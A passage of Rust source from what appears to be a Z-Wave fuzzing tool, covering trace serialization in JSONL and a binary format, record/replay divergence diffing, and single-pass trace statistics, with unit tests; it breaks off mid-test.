    pub fn describe(&self) -> String {
        let mut out = format!(
            "device {}, seed {}, config {}, channel {}, budget {:.0} s",
            self.device,
            self.seed,
            self.config,
            self.impairment,
            self.budget.as_secs_f64()
        );
        if self.scenario != Scenario::None {
            out.push_str(&format!(", scenario {}", self.scenario));
        }
        out
    }

    /// The device model named in the header.
    fn model(&self) -> Result<DeviceModel, TraceError> {
        DeviceModel::all()
            .into_iter()
            .find(|m| m.idx().eq_ignore_ascii_case(&self.device))
            .ok_or_else(|| TraceError::UnknownMeta(format!("device {}", self.device)))
    }

    /// The fuzzing configuration the header describes.
    fn fuzz_config(&self) -> Result<FuzzConfig, TraceError> {
        FuzzConfig::named(&self.config, self.budget, self.seed)
            .ok_or_else(|| TraceError::UnknownMeta(format!("config {}", self.config)))
            .map(|c| c.with_impairment(self.impairment).with_scenario(self.scenario))
    }
}

/// A recorded trial: header metadata plus the structured event records, in
/// execution order.
#[derive(Debug, Clone, PartialEq)]
pub struct Trace {
    /// Re-execution parameters (the header).
    pub meta: TraceMeta,
    /// One [`Record`] per journal event.
    pub events: Vec<Record>,
}

impl Trace {
    /// Serializes the whole trace as JSONL (header first, one event per
    /// line, trailing newline). Byte-identical to what a JSONL recording
    /// of the same trial writes, whatever format this trace was loaded
    /// from — the export-parity property `tests/trace_binary.rs` pins.
    pub fn to_jsonl(&self) -> String {
        let mut out = String::with_capacity(64 * (self.events.len() + 1));
        out.push_str(&self.meta.header_line());
        out.push('\n');
        for record in &self.events {
            out.push_str(&lines::render(record));
            out.push('\n');
        }
        out
    }

    /// Serializes the trace in the ZCT binary format.
    pub fn to_zct_bytes(&self) -> Vec<u8> {
        binary::to_zct_bytes(self)
    }

    /// Writes the trace to `path`. A `.zct` extension selects the binary
    /// format; anything else writes JSONL.
    ///
    /// # Errors
    ///
    /// [`TraceError::Io`] when the file cannot be written.
    pub fn save(&self, path: &Path) -> Result<(), TraceError> {
        if let Some(dir) = path.parent().filter(|d| !d.as_os_str().is_empty()) {
            std::fs::create_dir_all(dir)
                .map_err(|e| TraceError::Io(format!("{}: {e}", dir.display())))?;
        }
        let bytes = if path.extension().is_some_and(|e| e == "zct") {
            self.to_zct_bytes()
        } else {
            self.to_jsonl().into_bytes()
        };
        std::fs::write(path, bytes).map_err(|e| TraceError::Io(format!("{}: {e}", path.display())))
    }

    /// Reads a trace back from `path`, auto-detecting the format from the
    /// leading bytes (ZCT magic → binary, otherwise JSONL).
    ///
    /// # Errors
    ///
    /// [`TraceError::Io`] on read failure, [`TraceError::Malformed`] /
    /// [`TraceError::UnsupportedVersion`] / [`TraceError::UnknownMeta`] on
    /// broken content (with the byte offset or line locus of the damage).
    pub fn load(path: &Path) -> Result<Trace, TraceError> {
        let bytes =
            std::fs::read(path).map_err(|e| TraceError::Io(format!("{}: {e}", path.display())))?;
        Trace::from_bytes(&bytes)
    }

    /// Parses a trace from raw file bytes, auto-detecting the format.
    ///
    /// # Errors
    ///
    /// Same content errors as [`Trace::load`].
    pub fn from_bytes(bytes: &[u8]) -> Result<Trace, TraceError> {
        if trace_format::is_zct(bytes) {
            return binary::from_zct_bytes(bytes);
        }
        let text = std::str::from_utf8(bytes).map_err(|e| {
            TraceError::Malformed(format!(
                "byte offset {}: neither a ZCT trace nor UTF-8 JSONL",
                e.valid_up_to()
            ))
        })?;
        Trace::from_jsonl(text)
    }

    /// Parses a trace from its JSONL serialization. Event lines this
    /// build has no structured shape for survive as [`Record::Raw`] —
    /// they round-trip verbatim through either format.
    ///
    /// # Errors
    ///
    /// Header errors as in [`Trace::load`], each prefixed with `line 1`.
    pub fn from_jsonl(text: &str) -> Result<Trace, TraceError> {
        let mut jsonl_lines = text.lines();
        let header = jsonl_lines
            .next()
            .ok_or_else(|| TraceError::Malformed("line 1: empty trace".into()))?;
        let meta = TraceMeta::from_header_line(header).map_err(|e| match e {
            TraceError::Malformed(m) => TraceError::Malformed(format!("line 1: {m}")),
            other => other,
        })?;
        let events: Vec<Record> = jsonl_lines.filter(|l| !l.is_empty()).map(lines::parse).collect();
        Ok(Trace { meta, events })
    }

    /// The virtual timestamp recorded on event `index`, if present.
    pub fn at_us(&self, index: usize) -> Option<u64> {
        let record = self.events.get(index)?;
        record.at_us().or_else(|| match record {
            Record::Raw(line) => lines::field(line, "at_us").and_then(|v| v.parse().ok()),
            _ => None,
        })
    }
}

/// Best-effort header summary of raw trace bytes, for error paths: even
/// when the body is malformed, the (CRC- or line-delimited) header often
/// still decodes, and naming the campaign it belonged to turns "corrupt
/// file" into an actionable message. Returns `None` when not even the
/// header survives.
pub fn describe_header(bytes: &[u8]) -> Option<String> {
    if trace_format::is_zct(bytes) {
        return binary::peek_meta(bytes).map(|meta| meta.describe());
    }
    let text = std::str::from_utf8(bytes).ok()?;
    TraceMeta::from_header_line(text.lines().next()?).ok().map(|meta| meta.describe())
}

/// Where event `index` lives in the serialized file: the line number for
/// JSONL, the block and byte offset for binary. Divergence messages from
/// `zcover replay` cite this so the damaged region can be inspected with
/// ordinary tools (`sed -n`, `xxd -s`).
pub fn event_locus(bytes: &[u8], index: usize) -> String {
    if trace_format::is_zct(bytes) {
        return binary::event_locus(bytes, index as u64);
    }
    // Line 1 is the header; events start on line 2.
    format!("line {}", index + 2)
}

// ───────────────────────── recording ─────────────────────────

/// Maps one released scheduler event to its journal record.
fn sched_record(event: &Event) -> Record {
    let actor = if event.actor == SimScheduler::MEDIUM_ACTOR { -1 } else { event.actor as i64 };
    let kind = match &event.kind {
        EventKind::FrameArrival(deliveries) => {
            SchedKind::Frame { n: deliveries.len() as u64, hash: event.content_hash() }
        }
        EventKind::Timer(token) => SchedKind::Timer { id: token.id() },
        EventKind::BlackoutStart { generation, stage } => {
            SchedKind::BlackoutStart { generation: *generation, stage: *stage as u64 }
        }
        EventKind::BlackoutEnd { generation, stage } => {
            SchedKind::BlackoutEnd { generation: *generation, stage: *stage as u64 }
        }
    };
    Record::Sched { at_us: event.at.as_micros(), seq: event.seq, actor, kind }
}

/// The shared journal both halves of the recorder append to: the scheduler
/// observer (dequeue hook) and the [`TraceSink`] (fuzzer hook). One trial
/// is single-threaded, so records interleave in true execution order.
/// Events are stored structurally — no string formatting happens during
/// the campaign; rendering (JSONL) or encoding (binary) is deferred to
/// serialization time.
struct Journal {
    records: Mutex<Vec<Record>>,
    clock: SimClock,
}

impl Journal {
    fn push(&self, record: Record) {
        self.records.lock().push(record);
    }

    fn fuzz(&self, ev: &str) {
        self.push(Record::Fuzz { at_us: self.clock.now().as_micros(), ev: ev.to_string() });
    }
}

impl EventObserver for Journal {
    fn event_dequeued(&self, event: &Event) {
        self.push(sched_record(event));
    }
}

/// Records one trial's event journal. Create with [`TraceRecorder::attach`]
/// *before* running the pipeline, pass as the campaign's [`TraceSink`],
/// then call [`TraceRecorder::finish`].
///
/// The recorder is a pure observer: a campaign runs bit-identically with
/// or without one attached.
pub struct TraceRecorder {
    meta: TraceMeta,
    journal: Arc<Journal>,
    medium: Medium,
}

impl TraceRecorder {
    /// Hooks the recorder onto `medium`'s scheduler. Everything the
    /// simulation dequeues from this point on — fingerprinting, discovery,
    /// and the campaign itself — lands in the journal, so replaying from
    /// the same header reproduces the identical stream.
    pub fn attach(medium: &Medium, meta: TraceMeta) -> TraceRecorder {
        let journal =
            Arc::new(Journal { records: Mutex::new(Vec::new()), clock: medium.clock().clone() });
        medium.scheduler().set_observer(Some(journal.clone()));
        TraceRecorder { meta, journal, medium: medium.clone() }
    }

    /// Detaches the scheduler hook, appends the summary footer, and
    /// returns the finished trace.
    pub fn finish(self, result: &CampaignResult) -> Trace {
        self.medium.scheduler().set_observer(None);
        let mut events = std::mem::take(&mut *self.journal.records.lock());
        events.push(Record::End {
            at_us: result.ended.as_micros(),
            packets: result.packets_sent,
            findings: result.unique_vulns() as u64,
            sched_events: self.medium.scheduler().events_processed(),
        });
        Trace { meta: self.meta, events }
    }
}

impl TraceSink for TraceRecorder {
    fn packet_sent(&mut self) {
        self.journal.fuzz("packet");
    }

    fn plan_executed(&mut self) {
        self.journal.fuzz("plan");
    }

    fn outage_observed(&mut self) {
        self.journal.fuzz("outage");
    }

    fn finding(&mut self, finding: &VulnFinding) {
        self.journal.push(Record::Oracle {
            at_us: finding.found_at.as_micros(),
            bug: u64::from(finding.bug_id),
            cmdcl: u64::from(finding.cmdcl),
            cmd: u64::from(finding.cmd),
        });
    }

    fn retransmission(&mut self) {
        self.journal.fuzz("retransmission");
    }

    fn ack_timeout(&mut self) {
        self.journal.fuzz("ack_timeout");
    }

    fn corpus_retained(&mut self, new_edges: u64, corpus_size: usize) {
        self.journal.push(Record::Corpus {
            at_us: self.journal.clock.now().as_micros(),
            edges: new_edges,
            size: corpus_size as u64,
        });
    }

    fn attack_frame(&mut self, index: u64) {
        self.journal.push(Record::Attack { at_us: self.journal.clock.now().as_micros(), index });
    }
}

/// A recorded trial: the trace plus the pipeline report it journaled.
pub struct RecordedCampaign {
    /// The finished event journal.
    pub trace: Trace,
    /// The three-phase pipeline report of the recorded run.
    pub report: ZCoverReport,
    /// The testbed the trial ran against (for oracle inspection).
    pub testbed: Testbed,
}

/// Runs the full three-phase pipeline on a fresh testbed with a recorder
/// attached. This is the single code path used by `zcover fuzz --record`
/// *and* by [`replay`], so a recorded trace and its replay journal the
/// exact same execution.
///
/// # Errors
///
/// Propagates pipeline [`ZCoverError`]s.
pub fn record_campaign(
    model: DeviceModel,
    config_name: &str,
    config: FuzzConfig,
) -> Result<RecordedCampaign, ZCoverError> {
    let meta = TraceMeta {
        device: model.idx().to_string(),
        seed: config.seed,
        config: config_name.to_string(),
        impairment: config.impairment,
        budget: config.testing_duration,
        scenario: config.scenario,
    };
    let mut testbed = Testbed::new(model, config.seed);
    let mut recorder = TraceRecorder::attach(crate::FuzzTarget::medium(&testbed), meta);
    let mut zcover = ZCover::attach(&testbed, 70.0);
    let report = zcover.run_campaign_with_sink(&mut testbed, config, &mut recorder)?;
    let trace = recorder.finish(&report.campaign);
    Ok(RecordedCampaign { trace, report, testbed })
}

// ───────────────────────── replay & diffing ─────────────────────────

/// The first point where a replayed journal departs from the recorded one.
/// The event payloads are carried in their JSONL rendering — the format
/// both humans and the golden files speak.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Divergence {
    /// 0-based index into the event stream (header excluded).
    pub index: usize,
    /// Virtual timestamp of the divergent event (from the recorded record
    /// when present, else from the replayed one).
    pub at_us: Option<u64>,
    /// The recorded event (`None`: the replay produced *extra* events).
    pub expected: Option<String>,
    /// The replayed event (`None`: the replay ended *early*).
    pub actual: Option<String>,
    /// Up to three recorded events immediately before the divergence.
    pub context: Vec<String>,
}

/// Outcome of diffing a recorded trace against its replay.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ReplayReport {
    /// Events in the recorded trace.
    pub recorded_events: usize,
    /// Events the replay produced.
    pub replayed_events: usize,
    /// The first divergence, or `None` when the journals are identical.
    pub divergence: Option<Divergence>,
}

impl ReplayReport {
    /// Whether the replay matched the recording event-for-event.
    pub fn is_clean(&self) -> bool {
        self.divergence.is_none()
    }

    /// Human-readable verdict for the `zcover replay` subcommand.
    pub fn render(&self) -> String {
        match &self.divergence {
            None => format!("replay OK: {} events, zero divergence", self.recorded_events),
            Some(d) => {
                let mut out = String::new();
                let when = d
                    .at_us
                    .map(|us| format!("{:.6} s", us as f64 / 1e6))
                    .unwrap_or_else(|| "?".to_string());
                out.push_str(&format!(
                    "DIVERGENCE at event {} (virtual t = {when}); \
                     recorded {} events, replayed {}\n",
                    d.index, self.recorded_events, self.replayed_events
                ));
                let context_start = d.index.saturating_sub(d.context.len());
                for (offset, line) in d.context.iter().enumerate() {
                    out.push_str(&format!("  {:>8} | {line}\n", context_start + offset));
                }
                match &d.expected {
                    Some(line) => out.push_str(&format!("  expected | {line}\n")),
                    None => out.push_str("  expected | <end of recorded trace>\n"),
                }
                match &d.actual {
                    Some(line) => out.push_str(&format!("  actual   | {line}\n")),
                    None => out.push_str("  actual   | <replay ended early>\n"),
                }
                out
            }
        }
    }
}

/// Diffs two event streams, reporting the first differing index.
pub fn diff_traces(recorded: &Trace, replayed: &Trace) -> ReplayReport {
    let n = recorded.events.len().max(replayed.events.len());
    for index in 0..n {
        let expected = recorded.events.get(index);
        let actual = replayed.events.get(index);
        if expected == actual {
            continue;
        }
        let context_from = index.saturating_sub(3);
        let at_us = recorded.at_us(index).or_else(|| replayed.at_us(index));
        return ReplayReport {
            recorded_events: recorded.events.len(),
            replayed_events: replayed.events.len(),
            divergence: Some(Divergence {
                index,
                at_us,
                expected: expected.map(lines::render),
                actual: actual.map(lines::render),
                context: recorded.events[context_from..index].iter().map(lines::render).collect(),
            }),
        };
    }
    ReplayReport {
        recorded_events: recorded.events.len(),
        replayed_events: replayed.events.len(),
        divergence: None,
    }
}

/// Re-executes the trial described by `recorded`'s header and diffs the
/// fresh journal against the recorded one.
///
/// # Errors
///
/// [`TraceError::UnknownMeta`] when the header names an unknown device,
/// config, or profile; [`TraceError::Replay`] when the re-executed
/// pipeline fails outright.
pub fn replay(recorded: &Trace) -> Result<ReplayReport, TraceError> {
    let model = recorded.meta.model()?;
    let config = recorded.meta.fuzz_config()?;
    let rerun =
        record_campaign(model, &recorded.meta.config, config).map_err(TraceError::Replay)?;
    Ok(diff_traces(recorded, &rerun.trace))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn short_meta() -> TraceMeta {
        TraceMeta {
            device: "D1".to_string(),
            seed: 5,
            config: "full".to_string(),
            impairment: ImpairmentProfile::Lossy,
            budget: Duration::from_secs(60),
            scenario: Scenario::None,
        }
    }

    #[test]
    fn header_roundtrips_through_serialization() {
        let meta = short_meta();
        let parsed = TraceMeta::from_header_line(&meta.header_line()).unwrap();
        assert_eq!(parsed, meta);
    }

    #[test]
    fn scenario_header_field_is_conditional() {
        // No scenario → no field: pre-scenario golden traces keep their
        // exact header bytes.
        let plain = short_meta();
        assert!(!plain.header_line().contains("scenario"));
        // With a scenario the field round-trips.
        let meta = TraceMeta { scenario: Scenario::S0NoMore, ..short_meta() };
        let line = meta.header_line();
        assert!(line.contains("\"scenario\":\"s0-no-more\""));
        let parsed = TraceMeta::from_header_line(&line).unwrap();
        assert_eq!(parsed, meta);
        assert_eq!(parsed.fuzz_config().unwrap().scenario, Scenario::S0NoMore);
        // An unknown scenario name is rejected, not silently dropped.
        let bad = line.replace("s0-no-more", "s9-no-more");
        assert!(matches!(TraceMeta::from_header_line(&bad), Err(TraceError::UnknownMeta(_))));
    }

    #[test]
    fn header_version_gate() {
        let line = short_meta().header_line().replace("\"zcover_trace\":1", "\"zcover_trace\":9");
        assert_eq!(TraceMeta::from_header_line(&line), Err(TraceError::UnsupportedVersion(9)));
        assert!(matches!(
            TraceMeta::from_header_line("{\"not\":\"a trace\"}"),
            Err(TraceError::Malformed(_))
        ));
    }

    #[test]
    fn jsonl_roundtrip_preserves_events() {
        let trace = Trace {
            meta: short_meta(),
            events: vec![
                Record::Fuzz { at_us: 0, ev: "packet".to_string() },
                Record::Fuzz { at_us: 0, ev: "plan".to_string() },
                Record::Raw("{\"t\":\"future\",\"x\":1}".to_string()),
            ],
        };
        let back = Trace::from_jsonl(&trace.to_jsonl()).unwrap();
        assert_eq!(back, trace);
    }

    #[test]
    fn binary_and_jsonl_serializations_are_interchangeable() {
        let trace = Trace {
            meta: TraceMeta { scenario: Scenario::S0NoMore, ..short_meta() },
            events: vec![
                Record::Sched {
                    at_us: 4800,
                    seq: 0,
                    actor: -1,
                    kind: SchedKind::Frame { n: 2, hash: 0xDEAD_BEEF },
                },
                Record::Fuzz { at_us: 5000, ev: "packet".to_string() },
                Record::End { at_us: 9000, packets: 1, findings: 0, sched_events: 1 },
            ],
        };
        let bytes = trace.to_zct_bytes();
        assert!(trace_format::is_zct(&bytes));
        let back = Trace::from_bytes(&bytes).unwrap();
        assert_eq!(back, trace);
        assert_eq!(back.to_jsonl(), trace.to_jsonl());
        // Auto-detection picks JSONL for the textual serialization.
        let text = trace.to_jsonl();
        assert_eq!(Trace::from_bytes(text.as_bytes()).unwrap(), trace);
    }

    #[test]
    fn describe_header_survives_a_damaged_body() {
        let trace = Trace {
            meta: short_meta(),
            events: vec![Record::Fuzz { at_us: 10, ev: "packet".to_string() }],
        };
        let mut bytes = trace.to_zct_bytes();
        // Truncate mid-body: parsing fails, but the header still names
        // the campaign.
        bytes.truncate(bytes.len() - 6);
        assert!(Trace::from_bytes(&bytes).is_err());
        let summary = describe_header(&bytes).expect("header survives truncation");
        assert!(summary.contains("device D1"), "{summary}");
        assert!(summary.contains("seed 5"), "{summary}");
        let jsonl = trace.to_jsonl();
        assert_eq!(describe_header(jsonl.as_bytes()).as_deref(), Some(summary.as_str()));
    }

    #[test]
    fn event_locus_names_lines_and_blocks() {
        let trace = Trace {
            meta: short_meta(),
            events: (0..700).map(|i| Record::Fuzz { at_us: i, ev: "packet".to_string() }).collect(),
        };
        assert_eq!(event_locus(trace.to_jsonl().as_bytes(), 0), "line 2");
        assert_eq!(event_locus(trace.to_jsonl().as_bytes(), 41), "line 43");
        // Default block size is 512: event 600 lives in block 1.
        let locus = event_locus(&trace.to_zct_bytes(), 600);
        assert!(locus.contains("block 1"), "{locus}");
        assert!(locus.contains("byte offset"), "{locus}");
    }

    #[test]
    fn recording_does_not_perturb_the_campaign() {
        // The same trial with and without a recorder attached must produce
        // identical campaign results — the recorder is a pure observer.
        let model = DeviceModel::D1;
        let config =
            FuzzConfig::full(Duration::from_secs(120), 9).with_impairment(ImpairmentProfile::Lossy);
        let recorded = record_campaign(model, "full", config.clone()).unwrap();
        let mut tb = Testbed::new(model, 9);
        let mut zc = ZCover::attach(&tb, 70.0);
        let bare = zc.run_campaign(&mut tb, config).unwrap();
        assert_eq!(recorded.report.campaign, bare.campaign);
    }

    #[test]
    fn recording_twice_is_bit_identical_and_replays_clean() {
        let config = FuzzConfig::full(Duration::from_secs(90), 3);
        let a = record_campaign(DeviceModel::D1, "full", config.clone()).unwrap();
        let b = record_campaign(DeviceModel::D1, "full", config).unwrap();
        assert_eq!(a.trace.to_jsonl(), b.trace.to_jsonl());
        assert_eq!(a.trace.to_zct_bytes(), b.trace.to_zct_bytes());
        assert!(!a.trace.events.is_empty());
        let report = replay(&a.trace).unwrap();
        assert!(report.is_clean(), "{}", report.render());
        assert!(report.render().contains("zero divergence"));
    }

    #[test]
    fn diff_pinpoints_first_divergent_event() {
        let meta = short_meta();
        let mk = |ats: &[(u64, &str)]| Trace {
            meta: meta.clone(),
            events: ats
                .iter()
                .map(|&(at_us, ev)| Record::Fuzz { at_us, ev: ev.to_string() })
                .collect(),
        };
        let recorded = mk(&[(10, "packet"), (20, "packet"), (30, "plan")]);
        let replayed = mk(&[(10, "packet"), (20, "packet"), (31, "plan")]);
        let report = diff_traces(&recorded, &replayed);
        assert!(report.render().contains("DIVERGENCE at event 2"));
        let d = report.divergence.expect("must diverge");
        assert_eq!(d.index, 2);
        assert_eq!(d.at_us, Some(30));
        assert_eq!(d.context.len(), 2);
        assert_eq!(d.expected.as_deref(), Some("{\"t\":\"fuzz\",\"at_us\":30,\"ev\":\"plan\"}"));
        // Length mismatch: replay ended early.
        let short = mk(&[(10, "packet")]);
        let d = diff_traces(&recorded, &short).divergence.unwrap();
        assert_eq!(d.index, 1);
        assert_eq!(d.actual, None);
    }
}

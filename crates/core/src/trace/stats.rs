//! At-scale trace analytics: `zcover trace stats`.
//!
//! Everything here is computed in **one streaming pass** over the record
//! stream — a binary trace is decoded block by block and each record is
//! fed to [`TraceStats::observe`] exactly once, so a multi-gigabyte
//! city-sweep trace analyses in O(blocks) memory. The metrics answer the
//! questions the paper's evaluation asks of a campaign:
//!
//! - **Per-CMDCL finding latency**: for each command class, how many
//!   verdicts the oracle produced, which bug ids, and the virtual time to
//!   the first one (Table III's time-to-find, per class).
//! - **Outage histogram**: when in the campaign the controller was
//!   observed unavailable (Section IV's availability analysis), as counts
//!   over ten equal slices of the virtual span.
//! - **Edges over time**: the coverage-mode corpus trajectory — each
//!   retention's cumulative new-edge total and corpus size.
//! - **Cross-trial divergence**: for several traces of the *same*
//!   campaign, where the journals first depart (they should not — see
//!   [`cross_trial_summary`]).

use std::collections::{BTreeMap, BTreeSet};

use trace_format::{Record, SchedKind};

use super::{diff_traces, Trace};

/// Oracle aggregate for one command class.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct CmdclStats {
    /// Verdicts recorded against this class.
    pub findings: u64,
    /// Distinct Table III bug ids among them.
    pub bugs: BTreeSet<u64>,
    /// Virtual time (µs) of the first verdict — the class's finding
    /// latency.
    pub first_at_us: u64,
}

/// Single-pass aggregate of one trace's event stream.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct TraceStats {
    /// Total records observed.
    pub events: u64,
    /// Scheduler frame-arrival dequeues.
    pub sched_frames: u64,
    /// Scheduler timer dequeues.
    pub sched_timers: u64,
    /// Timer ids the kernel issued, inferred from the largest journaled
    /// id (+1). Ids are handed out sequentially at *schedule* time but
    /// only dequeues are journaled, so this is a lower bound on timers
    /// scheduled; together with [`TraceStats::sched_timers`] it exposes
    /// the kernel's live-vs-cancelled split from the trace alone.
    pub timers_scheduled: u64,
    /// Scheduler blackout-edge dequeues (starts + ends).
    pub sched_blackouts: u64,
    /// Fuzzer lifecycle events by name (`packet`, `plan`, `outage`, ...).
    pub fuzz: BTreeMap<String, u64>,
    /// Oracle aggregates keyed by CMDCL.
    pub per_cmdcl: BTreeMap<u64, CmdclStats>,
    /// Virtual timestamps (µs) of every observed outage.
    pub outage_at_us: Vec<u64>,
    /// Corpus trajectory: `(at_us, cumulative new edges, corpus size)`
    /// per retention, in stream order.
    pub edges_over_time: Vec<(u64, u64, u64)>,
    /// Scripted adversary frames.
    pub attack_frames: u64,
    /// Lines preserved as [`Record::Raw`] (unknown shapes).
    pub raw_events: u64,
    /// The closing summary, when the trace carries one:
    /// `(at_us, packets, findings, sched_events)`.
    pub end: Option<(u64, u64, u64, u64)>,
    /// Largest virtual timestamp seen (µs) — the span the histogram
    /// buckets divide.
    pub span_us: u64,
}

impl TraceStats {
    /// Feeds one record into the aggregate.
    pub fn observe(&mut self, record: &Record) {
        self.events += 1;
        if let Some(at_us) = record.at_us() {
            self.span_us = self.span_us.max(at_us);
        }
        match record {
            Record::Sched { kind, .. } => match kind {
                SchedKind::Frame { .. } => self.sched_frames += 1,
                SchedKind::Timer { id } => {
                    self.sched_timers += 1;
                    self.timers_scheduled = self.timers_scheduled.max(id + 1);
                }
                SchedKind::BlackoutStart { .. } | SchedKind::BlackoutEnd { .. } => {
                    self.sched_blackouts += 1
                }
            },
            Record::Fuzz { at_us, ev } => {
                *self.fuzz.entry(ev.clone()).or_default() += 1;
                if ev == "outage" {
                    self.outage_at_us.push(*at_us);
                }
            }
            Record::Oracle { at_us, bug, cmdcl, .. } => {
                let entry = self.per_cmdcl.entry(*cmdcl).or_default();
                if entry.findings == 0 {
                    entry.first_at_us = *at_us;
                }
                entry.findings += 1;
                entry.bugs.insert(*bug);
            }
            Record::Corpus { at_us, edges, size } => {
                let cumulative =
                    self.edges_over_time.last().map(|&(_, e, _)| e).unwrap_or(0) + edges;
                self.edges_over_time.push((*at_us, cumulative, *size));
            }
            Record::Attack { .. } => self.attack_frames += 1,
            Record::End { at_us, packets, findings, sched_events } => {
                self.end = Some((*at_us, *packets, *findings, *sched_events));
            }
            Record::Raw(_) => self.raw_events += 1,
        }
    }

    /// Aggregates a whole record stream.
    pub fn scan<'a>(records: impl IntoIterator<Item = &'a Record>) -> TraceStats {
        let mut stats = TraceStats::default();
        for record in records {
            stats.observe(record);
        }
        stats
    }

    /// Timers the id sequence proves were scheduled but that never fired
    /// in the journal: cancelled in the wheel or still pending at end.
    pub fn timers_unfired(&self) -> u64 {
        self.timers_scheduled.saturating_sub(self.sched_timers)
    }

    /// Outage counts over `buckets` equal slices of the virtual span.
    pub fn outage_histogram(&self, buckets: usize) -> Vec<u64> {
        let buckets = buckets.max(1);
        let mut hist = vec![0u64; buckets];
        let span = self.span_us.max(1);
        for &at in &self.outage_at_us {
            let b = ((at as u128 * buckets as u128) / (span as u128 + 1)) as usize;
            hist[b.min(buckets - 1)] += 1;
        }
        hist
    }

    /// Renders the aggregate as the `zcover trace stats` text report.
    pub fn render(&self, label: &str) -> String {
        let mut out = format!("trace stats: {label}\n");
        out.push_str(&format!(
            "  events: {} ({} frames, {} timers, {} blackout edges, {} attack, {} raw)\n",
            self.events,
            self.sched_frames,
            self.sched_timers,
            self.sched_blackouts,
            self.attack_frames,
            self.raw_events
        ));
        out.push_str(&format!(
            "  timers: {} fired of >= {} issued ({} cancelled or pending)\n",
            self.sched_timers,
            self.timers_scheduled,
            self.timers_unfired()
        ));
        out.push_str(&format!("  virtual span: {:.3} s\n", self.span_us as f64 / 1e6));
        if let Some((at_us, packets, findings, sched_events)) = self.end {
            out.push_str(&format!(
                "  campaign end: {:.3} s, {packets} packets, {findings} unique findings, \
                 {sched_events} scheduler events\n",
                at_us as f64 / 1e6
            ));
        }
        if !self.fuzz.is_empty() {
            out.push_str("  fuzz events:");
            for (ev, count) in &self.fuzz {
                out.push_str(&format!(" {ev} {count}"));
            }
            out.push('\n');
        }
        let hist = self.outage_histogram(10);
        out.push_str(&format!(
            "  outages: {} total; per-decile histogram {:?}\n",
            self.outage_at_us.len(),
            hist
        ));
        if self.per_cmdcl.is_empty() {
            out.push_str("  findings: none\n");
        } else {
            out.push_str("  per-CMDCL findings (class: verdicts, bugs, first at):\n");
            for (cmdcl, stats) in &self.per_cmdcl {
                let bugs: Vec<String> = stats.bugs.iter().map(|b| b.to_string()).collect();
                out.push_str(&format!(
                    "    0x{cmdcl:02x}: {} verdict(s), bugs [{}], first at {:.3} s\n",
                    stats.findings,
                    bugs.join(","),
                    stats.first_at_us as f64 / 1e6
                ));
            }
        }
        match self.edges_over_time.last() {
            None => out.push_str("  coverage: no corpus events (not a coverage-mode trace)\n"),
            Some(&(at_us, edges, size)) => {
                out.push_str(&format!(
                    "  coverage: {} retentions, {edges} cumulative new edges, final corpus \
                     size {size} (last retain at {:.3} s)\n",
                    self.edges_over_time.len(),
                    at_us as f64 / 1e6
                ));
            }
        }
        out
    }
}

/// Compares several traces of the same campaign and summarizes where each
/// departs from the first — the cross-trial divergence report of `zcover
/// trace stats a.zct b.zct ...`. Traces of *different* campaigns (headers
/// differ) are called out rather than diffed event by event.
pub fn cross_trial_summary(traces: &[(String, Trace)]) -> String {
    let mut out = String::new();
    let Some((base_name, base)) = traces.first() else { return out };
    out.push_str(&format!(
        "cross-trial divergence (baseline {base_name}, {} events):\n",
        base.events.len()
    ));
    for (name, trace) in &traces[1..] {
        if trace.meta != base.meta {
            out.push_str(&format!(
                "  {name}: different campaign header ({})\n",
                trace.meta.describe()
            ));
            continue;
        }
        let report = diff_traces(base, trace);
        match report.divergence {
            None => out.push_str(&format!("  {name}: identical ({} events)\n", trace.events.len())),
            Some(d) => {
                let when = d
                    .at_us
                    .map(|us| format!("{:.6} s", us as f64 / 1e6))
                    .unwrap_or_else(|| "?".to_string());
                out.push_str(&format!(
                    "  {name}: first divergence at event {} (virtual t = {when}), \
                     {} vs {} events\n",
                    d.index, report.recorded_events, report.replayed_events
                ));
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scenarios::Scenario;
    use crate::trace::TraceMeta;
    use std::time::Duration;
    use zwave_radio::ImpairmentProfile;

    fn sample() -> Vec<Record> {
        vec![
            Record::Sched {
                at_us: 100,
                seq: 0,
                actor: 0,
                kind: SchedKind::Frame { n: 1, hash: 7 },
            },
            Record::Sched { at_us: 200, seq: 1, actor: -1, kind: SchedKind::Timer { id: 3 } },
            Record::Sched {
                at_us: 300,
                seq: 2,
                actor: -1,
                kind: SchedKind::BlackoutStart { generation: 1, stage: 0 },
            },
            Record::Fuzz { at_us: 400, ev: "packet".to_string() },
            Record::Fuzz { at_us: 450, ev: "outage".to_string() },
            Record::Fuzz { at_us: 9_000, ev: "outage".to_string() },
            Record::Oracle { at_us: 500, bug: 3, cmdcl: 0x25, cmd: 1 },
            Record::Oracle { at_us: 700, bug: 5, cmdcl: 0x25, cmd: 2 },
            Record::Oracle { at_us: 900, bug: 9, cmdcl: 0x71, cmd: 5 },
            Record::Corpus { at_us: 600, edges: 4, size: 1 },
            Record::Corpus { at_us: 800, edges: 2, size: 2 },
            Record::Attack { at_us: 950, index: 0 },
            Record::Raw("{\"t\":\"novel\"}".to_string()),
            Record::End { at_us: 10_000, packets: 2, findings: 3, sched_events: 3 },
        ]
    }

    #[test]
    fn scan_aggregates_every_dimension() {
        let stats = TraceStats::scan(&sample());
        assert_eq!(stats.events, 14);
        assert_eq!(stats.sched_frames, 1);
        assert_eq!(stats.sched_timers, 1);
        // Timer id 3 fired, so ids 0..=3 were issued and three of them
        // never surfaced: cancelled in the wheel or pending at end.
        assert_eq!(stats.timers_scheduled, 4);
        assert_eq!(stats.timers_unfired(), 3);
        assert_eq!(stats.sched_blackouts, 1);
        assert_eq!(stats.fuzz["packet"], 1);
        assert_eq!(stats.fuzz["outage"], 2);
        assert_eq!(stats.attack_frames, 1);
        assert_eq!(stats.raw_events, 1);
        assert_eq!(stats.span_us, 10_000);
        assert_eq!(stats.end, Some((10_000, 2, 3, 3)));
        // Per-CMDCL: two verdicts on 0x25 (first at 500), one on 0x71.
        assert_eq!(stats.per_cmdcl[&0x25].findings, 2);
        assert_eq!(stats.per_cmdcl[&0x25].first_at_us, 500);
        assert_eq!(stats.per_cmdcl[&0x25].bugs, BTreeSet::from([3, 5]));
        assert_eq!(stats.per_cmdcl[&0x71].findings, 1);
        // Edges accumulate across retentions.
